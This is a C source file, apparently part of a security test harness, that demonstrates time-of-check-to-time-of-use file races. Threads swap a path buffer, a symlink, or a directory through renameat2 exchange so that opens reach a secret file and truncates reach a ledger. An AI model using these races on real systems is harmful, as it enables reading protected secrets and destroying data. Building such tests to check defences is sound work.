/*
 * files-races - the path that is checked isn't the one that is opened.
 */
#include "race.h"

#define TRIES 2000

#define HARMLESS "/srv/work/harmless"

static char path[64] = HARMLESS;

static void look(int fd)
{
	char text[64];
	if (fd < 0)
		return;
	ssize_t n = read(fd, text, sizeof text);
	close(fd);
	if (n > 0 && strncmp(text, "nothing", 7)) {
		leak(text, n);
		stop = 1;
	}
}

static void *flip_path(void *unused)
{
	(void)unused;
	for (int i = 0; !stop; i++) {
		/* The names have the same length, but for the terminator. */
		memcpy(path, i & 1 ? SECRET "\0" : HARMLESS, sizeof HARMLESS);
		flipped();
	}
	return NULL;
}

static void *flip_link(void *unused)
{
	(void)unused;
	for (int i = 0; !stop; i++) {
		if (symlink(i & 1 ? SECRET : HARMLESS, "/srv/work/next"))
			perror("symlink");
		if (rename("/srv/work/next", "/srv/work/link"))
			perror("rename");
		flipped();
	}
	return NULL;
}

static void *flip_directory(void *unused)
{
	(void)unused;
	while (!stop)
		if (syscall(SYS_renameat2, AT_FDCWD, "/srv/work/one", AT_FDCWD, "/srv/work/two", 2 /* RENAME_EXCHANGE */))
			give_up("renameat2");
		else
			flipped();
	return NULL;
}

static void race(void *(*flip)(void *), const char *what)
{
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	while (again(TRIES))
		look(open(what, O_RDONLY));
	stop = 1;
	pthread_join(t, NULL);
}

static void path_flip(void)
{
	race(flip_path, path);
}

static void symlink_flip(void)
{
	if (symlink(HARMLESS, "/srv/work/link"))
		give_up("symlink");
	race(flip_link, "/srv/work/link");
}

static void rename_flip(void)
{
	if (symlink("/srv/secret", "/srv/work/one") || mkdir("/srv/work/two", 0755) ||
	    symlink(HARMLESS, "/srv/work/two/token"))
		give_up("symlink");
	race(flip_directory, "/srv/work/one/token");
}

static int ledger_is_short(void)
{
	struct stat s;
	return !stat(LEDGER, &s) && s.st_size == 0;
}

/* A writer's race: what is shortened isn't what was checked. */
static void *shorten(void *unused)
{
	(void)unused;
	while (again(TRIES))
		if (truncate("/srv/work/link", 0) && errno != EACCES && errno != EPERM && errno != ENOENT)
			perror("truncate");
		else if (ledger_is_short())
			break;
	stop = 1;
	return NULL;
}

static void *flip_ledger(void *unused)
{
	(void)unused;
	for (int i = 0; !stop; i++) {
		if (symlink(i & 1 ? LEDGER : HARMLESS, "/srv/work/next"))
			perror("symlink");
		if (rename("/srv/work/next", "/srv/work/link"))
			perror("rename");
		flipped();
	}
	return NULL;
}

static void truncate_flip(void)
{
	pthread_t t;
	if (symlink(HARMLESS, "/srv/work/link"))
		give_up("symlink");
	pthread_create(&t, NULL, shorten, NULL);
	flip_ledger(NULL);
	pthread_join(t, NULL);
}

int main(int argc, char **argv)
{
	static const struct way ways[] = {
		{"path", path_flip}, {"symlink", symlink_flip}, {"rename", rename_flip}, {"truncate", truncate_flip}, {NULL, NULL},
	};
	return take(ways, argc, argv);
}
